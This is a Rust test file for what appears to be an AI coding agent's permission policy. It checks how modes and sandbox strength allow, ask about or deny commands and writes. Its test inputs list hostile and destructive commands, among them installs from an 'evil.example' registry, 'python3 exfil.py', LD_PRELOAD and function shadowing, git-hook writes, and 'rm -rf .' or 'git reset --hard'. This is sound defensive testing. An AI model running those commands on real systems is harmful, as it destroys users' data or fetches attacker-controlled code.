//! What the mode, the level and the sandbox decide together.

use Decision::{Allow, Ask, Deny};
use journeyman_policy::{Call, Policy};
use journeyman_protocol::{
    Decision, Effects, Enforcement, Level, Mode, RelPath, SandboxNeeds, SandboxTier, Verdict,
};
use proptest::prelude::*;

fn full() -> Enforcement {
    Enforcement::from_needs(SandboxTier::Namespaces, SandboxNeeds::ALL)
}

fn writes(paths: &[&str]) -> Effects {
    Effects { writes: paths.iter().map(|path| RelPath::parse(path).unwrap()).collect(), ..Effects::default() }
}

fn runs(command: &str) -> Effects {
    Effects { command: Some(command.to_owned()), ..Effects::default() }
}

fn policy() -> Policy {
    Policy::default().with_checks(vec!["cargo test".to_owned()])
}

fn judge(mode: Mode, effects: &Effects, sandbox: Option<&Enforcement>) -> Verdict {
    policy().judge(&Call { tool: "some_tool", agent: None, mode, effects, sandbox })
}

#[test]
fn only_what_fetches_packages_reaches_a_registry_unasked() {
    let with = |command: &str, hosts: &[&str]| Effects {
        hosts: hosts.iter().map(|&name| name.to_owned()).collect(),
        ..runs(command)
    };
    let registry = ["registry.npmjs.org", "index.crates.io", "pypi.org", "proxy.golang.org", "rubygems.org"];
    let fetches = [
        "npm ci",
        "npm install --no-audit left-pad",
        "yarn",
        "pnpm install --frozen-lockfile",
        "cargo fetch",
        "cargo build --release",
        "cargo +nightly update -p serde",
        "pip install -r requirements.txt",
        "python3 -m pip install requests",
        "uv sync",
        "go mod download",
        "bundle install",
        "cd web && npm ci 2>&1 | tail -5",
        "timeout 300 npm ci",
        "npm ci > log",
        "mvn -q dependency:go-offline",
        "dotnet restore",
        "mix deps.get",
    ];
    for command in fetches {
        let verdict = judge(Mode::Auto, &with(command, &registry), Some(&full()));
        assert_eq!((verdict.level, verdict.decision), (Level::Shell, Allow), "{command}: {verdict:?}");
        assert_eq!(
            judge(Mode::Auto, &with(command, &["example.com"]), Some(&full())).decision,
            Ask,
            "{command}"
        );
        assert_eq!(judge(Mode::Edit, &with(command, &registry), Some(&full())).decision, Ask, "{command}");
    }
    let others = [
        "python3 exfil.py",
        "node -e 'x()'",
        "npm run build",
        "npm test",
        "npm publish",
        "npm token create",
        "npm login",
        "npm ci && npm publish",
        "npm ci && node x.js",
        "npm ci; ./x",
        "npx create-app",
        "npm exec x",
        "cargo publish",
        "cargo login",
        "cargo run",
        "cargo test",
        "gem push x.gem",
        "bundle exec rake release",
        "pip install -i https://evil.example x",
        "npm ci --registry=https://evil.example",
        "$x ci",
        "npm $x",
        "sh -c 'npm ci; ./x'",
        "./npm ci",
        "LD_PRELOAD=x npm ci",
        "npm() { evil; }; npm ci",
        "mvn compile exec:java",
        "gradle assemble runIt",
        "ls",
        "make -n",
    ];
    for command in others {
        let verdict = judge(Mode::Auto, &with(command, &["registry.npmjs.org"]), Some(&full()));
        assert_eq!(verdict.decision, Ask, "{command}: {verdict:?}");
    }
    let told = judge(Mode::Auto, &with("python3 x.py", &["registry.npmjs.org"]), Some(&full())).reason;
    assert!(told.contains("take uploads too"), "{told}");
}

#[test]
fn modes_by_levels() {
    let hosts = |names: &[&str]| Effects {
        hosts: names.iter().map(|&name| name.to_owned()).collect(),
        ..Effects::default()
    };
    let reaches = hosts(&["example.com"]);
    // What, its level, and the decisions of plan, ask, edit and auto with a full sandbox.
    let table = [
        (Effects::default(), Level::ReadOnly, [Allow, Allow, Allow, Allow]),
        (runs("ls"), Level::ReadOnly, [Allow, Allow, Allow, Allow]),
        (writes(&["src/lib.rs"]), Level::Edit, [Deny, Ask, Allow, Allow]),
        (runs("cargo test"), Level::Edit, [Deny, Ask, Allow, Allow]),
        (runs("cargo build"), Level::Edit, [Deny, Ask, Allow, Allow]),
        (runs("python3 x.py"), Level::Shell, [Deny, Ask, Ask, Allow]),
        (runs("rm -rf target"), Level::Shell, [Deny, Ask, Ask, Allow]),
        (runs("git push"), Level::System, [Deny, Ask, Ask, Ask]),
        (reaches, Level::System, [Deny, Ask, Ask, Ask]),
        (hosts(&["static.crates.io", "index.crates.io"]), Level::System, [Deny, Ask, Ask, Ask]),
        (runs("touch x"), Level::Edit, [Deny, Ask, Allow, Allow]),
        (hosts(&["static.crates.io", "example.com"]), Level::System, [Deny, Ask, Ask, Ask]),
        (writes(&["a", "sub/.envrc"]), Level::System, [Deny, Ask, Ask, Ask]),
        (writes(&[".journeyman/policy.toml"]), Level::System, [Deny, Ask, Ask, Ask]),
        (writes(&["a", ".git/hooks/pre-commit"]), Level::System, [Deny, Deny, Deny, Deny]),
        (writes(&["vendor/x/.GIT/config"]), Level::System, [Deny, Deny, Deny, Deny]),
    ];
    for (effects, level, decisions) in table {
        for (mode, decision) in Mode::ALL.into_iter().zip(decisions) {
            let verdict = judge(mode, &effects, Some(&full()));
            assert_eq!(
                (verdict.level, verdict.decision),
                (level, decision),
                "{mode}: {effects:?}: {verdict:?}"
            );
            assert!(!verdict.reason.is_empty());
        }
    }
}

#[test]
fn without_a_full_sandbox_every_command_asks_and_auto_asks_for_all_but_reading() {
    let mut weak = full();
    weak.network_off = false;
    for sandbox in [None, Some(&weak), Some(&Enforcement::none())] {
        let table = [
            (runs("ls"), [Ask, Ask, Ask, Ask]),
            (runs("cargo test"), [Deny, Ask, Ask, Ask]),
            (runs("cargo build"), [Deny, Ask, Ask, Ask]),
            (writes(&["src/lib.rs"]), [Deny, Ask, Allow, Ask]),
            (Effects::default(), [Allow, Allow, Allow, Allow]),
        ];
        for (effects, decisions) in table {
            for (mode, decision) in Mode::ALL.into_iter().zip(decisions) {
                let verdict = judge(mode, &effects, sandbox);
                assert_eq!(verdict.decision, decision, "{mode}: {effects:?}: {verdict:?}");
            }
        }
        let reason = judge(Mode::Auto, &runs("cargo build"), sandbox).reason;
        assert!(reason.contains("sandbox"), "{reason}");
        let reason = judge(Mode::Auto, &writes(&["src/lib.rs"]), sandbox).reason;
        assert!(reason.contains("src/lib.rs") && reason.contains("sandbox"), "{reason}");
    }
}

#[test]
fn verdicts_say_why_in_words_and_by_rule() {
    let git = judge(Mode::Auto, &writes(&["x/.git/config"]), Some(&full()));
    assert_eq!(git.reason, "x/.git/config belongs to git and is changed by git commands only");
    assert_eq!(git.rules, ["built-in: git's own files"]);
    let guarded = judge(Mode::Auto, &writes(&[".vscode/tasks.json"]), Some(&full()));
    assert_eq!(guarded.reason, "it changes .vscode/tasks.json: an editor runs what it says");
    let plan = judge(Mode::Plan, &writes(&["a", "b", "c", "d"]), Some(&full()));
    assert_eq!(plan.reason, "plan mode only reads; it changes a, b, c and 1 more");
    assert_eq!(plan.rules, Vec::<String>::new());
    let removal = judge(Mode::Auto, &runs("rm -rf build"), Some(&full()));
    assert_eq!(removal.destroys.as_deref(), Some("files removed: build"));
    // All effects of a call count: the worst decides.
    let both = Effects { command: Some("git push".into()), ..writes(&[".git/x"]) };
    assert_eq!(judge(Mode::Auto, &both, Some(&full())).decision, Deny);
}

fn some_effects() -> impl Strategy<Value = Effects> {
    let path = prop_oneof![
        "[a-c./]{1,6}",
        prop::sample::select(vec![".git/x", "a/.GIT", ".envrc", "src/x.rs", ".vscode/a"])
            .prop_map(str::to_owned),
    ];
    let command = prop_oneof![
        prop::sample::select(vec!["ls", "cargo test", "cargo build", "git push", "rm -rf x", ""])
            .prop_map(str::to_owned),
        any::<String>(),
    ];
    let paths = prop::collection::vec(path, 0..3)
        .prop_map(|paths| paths.iter().filter_map(|path| RelPath::parse(path).ok()).collect::<Vec<_>>());
    (paths.clone(), paths, prop::option::of(command), prop::collection::vec("[a-z.]{1,9}", 0..2)).prop_map(
        |(reads, writes, command, hosts)| Effects { reads, writes, command, hosts, previewed: false },
    )
}

fn a_sandbox() -> impl Strategy<Value = Option<Enforcement>> {
    prop_oneof![
        Just(None),
        Just(Some(full())),
        any::<[bool; 7]>().prop_map(|[a, b, c, d, e, f, g]| {
            let needs = SandboxNeeds {
                writes_confined: a,
                reads_confined: b,
                protected_kept: c,
                network_off: d,
                processes_confined: e,
                privileges_dropped: f,
                resources_bounded: g,
            };
            Some(Enforcement::from_needs(SandboxTier::Landlock, needs))
        })
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn level_3_is_never_automatic_and_plan_only_reads(
        effects in some_effects(), sandbox in a_sandbox(), mode in prop::sample::select(Mode::ALL.to_vec())
    ) {
        let verdict = judge(mode, &effects, sandbox.as_ref());
        if verdict.level == Level::System {
            prop_assert!(verdict.decision > Allow);
        }
        if mode == Mode::Plan && verdict.level > Level::ReadOnly {
            prop_assert_eq!(verdict.decision, Deny);
        }
        if !effects.writes.is_empty() {
            prop_assert!(verdict.level > Level::ReadOnly);
        }
    }

    #[test]
    fn doing_more_or_being_confined_less_is_never_allowed_sooner(
        effects in some_effects(), more in some_effects(), sandbox in a_sandbox(),
        mode in prop::sample::select(Mode::ALL.to_vec())
    ) {
        let alone = judge(mode, &effects, sandbox.as_ref()).decision;
        let mut both = effects.clone();
        both.reads.extend(more.reads);
        both.writes.extend(more.writes);
        both.hosts.extend(more.hosts);
        prop_assert!(judge(mode, &both, sandbox.as_ref()).decision >= alone);
        prop_assert!(judge(mode, &effects, None).decision >= alone);
    }

    #[test]
    fn a_wider_mode_never_asks_for_more_with_a_full_sandbox(effects in some_effects()) {
        let decisions = Mode::ALL.map(|mode| judge(mode, &effects, Some(&full())).decision);
        prop_assert!(decisions.is_sorted_by(|narrow, wide| narrow >= wide), "{decisions:?}");
    }
}

#[test]
fn what_undoing_may_not_bring_back_is_asked_for_in_every_mode() {
    let asked = [
        "git clean -fd",
        "git checkout -- .",
        "git checkout -- src/lib.rs",
        "git reset --hard",
        "git restore x",
        "git stash --all",
        "git stash -a",
        "git stash drop",
        "rm -rf .",
        "rm -rf ./",
        "rm -rf *",
        "rm -rf ./*",
        "rm -rf src/*",
        "rm *",
        "rm -rf data/*.db",
        "rm .env",
        "rm -f sub/.env.local",
        "rm -r .venv",
        "rm -rf ..",
        "rm -rf ../other",
        "rm -rf a/../../b",
        "rm -rf /srv/data",
        "rm -rf ~/x",
        "rm -rf $HOME/x",
        "rm -rf \"$DIR\"",
        "rm [a-z]*",
        "rm -rf target .env",
        "rm -rf target && rm .env",
        "cd x && rm -rf *",
        "ls | xargs rm",
        "find . -name x -delete",
        "bash -c 'rm -rf .'",
        "truncate -s 0 .env",
        "sqlite3 a.db 'drop table t'",
        "python -c 'import shutil; shutil.rmtree(\"x\")'",
        "rsync -a --delete a/ b/",
    ];
    let allowed = [
        "rm file.txt",
        "rm -f src/a.rs src/b.rs",
        "rm ./a",
        "rm -rf target build dist node_modules",
        "rm -rf ./target/",
        "rm -rf packages/a/dist && npm run build",
        "rm -rf .next .pytest_cache",
        "rm src/*.orig",
        "rm -rf /tmp/work",
        "chmod -R u+w src",
        "truncate -s 0 log.txt",
        "mv a b",
        "git stash",
    ];
    for (commands, decision) in [(asked.as_slice(), Ask), (allowed.as_slice(), Allow)] {
        for command in commands {
            let verdict = judge(Mode::Auto, &runs(command), Some(&full()));
            assert_eq!(verdict.decision, decision, "{command}: {verdict:?}");
            let edit = judge(Mode::Edit, &runs(command), Some(&full()));
            let expected = if edit.level == Level::Edit { Allow } else { Ask };
            assert_eq!(edit.decision, expected, "{command}: {edit:?}");
        }
    }
    let verdict = judge(Mode::Auto, &runs("rm -rf ."), Some(&full()));
    assert_eq!(verdict.rules, ["built-in: loss beyond undo"]);
    assert!(verdict.reason.contains("undoing may not bring back"), "{}", verdict.reason);
    assert_eq!(verdict.destroys.as_deref(), Some("files removed: ."));
    let previewed = Effects { previewed: true, ..runs("rm -rf .") };
    let verdict = judge(Mode::Auto, &previewed, Some(&full()));
    assert_eq!((verdict.decision, verdict.destroys), (Allow, None));
}
